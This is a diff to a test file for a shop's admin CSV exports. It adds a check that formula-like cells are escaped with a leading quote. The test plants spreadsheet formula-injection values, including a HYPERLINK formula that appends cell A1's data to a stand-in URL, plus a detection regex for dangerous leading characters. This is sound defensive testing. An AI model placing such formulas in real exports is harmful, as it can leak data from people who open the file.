@@ -80,7 +80,7 @@ describe.each(testDatabaseKinds())('CSV exports on %s', (kind) => {
     const order = (await json(placed)).data;
     const text = await (await get('/api/admin/csv/orders.csv', 'admin')).text();
     const line = text.split('\r\n').find((l) => l.startsWith(`${order.number};`));
-    expect(line).toContain(';Новый;Анна Выгрузка;+79000001122;csv@mail.test;Москва;Курьер;Не оплачен;');
+    expect(line).toContain(";Новый;Анна Выгрузка;'+79000001122;csv@mail.test;Москва;Курьер;Не оплачен;");
     expect(line).toContain(`;${(order.totals.totalKopecks / 100).toFixed(2).replace('.', ',')};`);
 
     // The list's filter picks the rows: another status or buyer leaves the order out.
@@ -94,6 +94,66 @@ describe.each(testDatabaseKinds())('CSV exports on %s', (kind) => {
     const refused = await get('/api/admin/csv/orders.csv?from=2026-02-02&to=2026-02-01', 'admin');
     expect(refused.status).toBe(400);
     expect((await json(refused)).error.message).toBe('Дата «по» не может быть раньше даты «с»');
+  });
+
+  it('neutralises cells a spreadsheet would run as a formula, in every export, keeping them readable', async () => {
+    const db = t.deps.database.db;
+    const formula = '=HYPERLINK("http://x"&A1,"click")';
+    await db
+      .insert(schema.shippingMethods)
+      .values({ id: 'csv', name: 'Курьер', priceKopecks: 0, estimatedDays: '1', isDefault: true })
+      .onConflictDoNothing();
+    const product = await createProduct(db, {
+      name: { ru: '+cmd' },
+      priceKopecks: 1_000,
+      variants: [{ colorCode: 'BLK', sizeCode: 'M', quantity: 5 }],
+    });
+    for (const [name, sizeCode] of [
+      ['-2+3', 'L'],
+      ['\tтаб', 'S'],
+      ['@SUM(A1)', 'XL'],
+    ] as const) {
+      await createProduct(db, {
+        name: { ru: name },
+        variants: [{ colorCode: 'BLK', sizeCode, quantity: 1 }],
+      });
+    }
+    const placed = await t.app.request('/api/orders', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() },
+      body: JSON.stringify({
+        contact: { name: formula, phone: '+7 900 000-33-44' },
+        address: { region: 'moscow', city: formula },
+        shippingMethodId: 'csv',
+        paymentMethod: 'card_on_delivery',
+        lines: [{ productId: product.id, colorCode: 'BLK', sizeCode: 'M', quantity: 1 }],
+      }),
+    });
+    const body = await json(placed);
+    expect(placed.status, JSON.stringify(body)).toBe(201);
+    const order = body.data;
+
+    const cellsOf = (text: string) =>
+      text
+        .replace(/^\uFEFF/, '')
+        .trimEnd()
+        .split('\r\n')
+        .flatMap((line) => line.split(';'))
+        .map((cell) => cell.replace(/^"|"$/g, '').replaceAll('""', '"'));
+    const dangerous = /^[=+\-@\t\r]/;
+    const orders = await (await get('/api/admin/csv/orders.csv', 'admin')).text();
+    const products = await (await get('/api/admin/csv/products.csv', 'admin')).text();
+    expect(cellsOf(orders).filter((cell) => dangerous.test(cell))).toEqual([]);
+    expect(cellsOf(products).filter((cell) => dangerous.test(cell))).toEqual([]);
+
+    // The text stays readable: a single quote in front, the rest as typed.
+    const orderLine = orders.split('\r\n').find((l) => l.startsWith(`${order.number};`));
+    expect(orderLine).toContain(`;"'=HYPERLINK(""http://x""&A1,""click"")";'+79000003344;;`);
+    expect(orderLine).toContain(`;"'=HYPERLINK(""http://x""&A1,""click"")";Курьер;`);
+    expect(products).toContain(`;'+cmd;`);
+    expect(products).toContain(`;'-2+3;`);
+    expect(products).toContain(`;'@SUM(A1);`);
+    expect(products).toContain(`;'\tтаб;`);
   });
 });
 
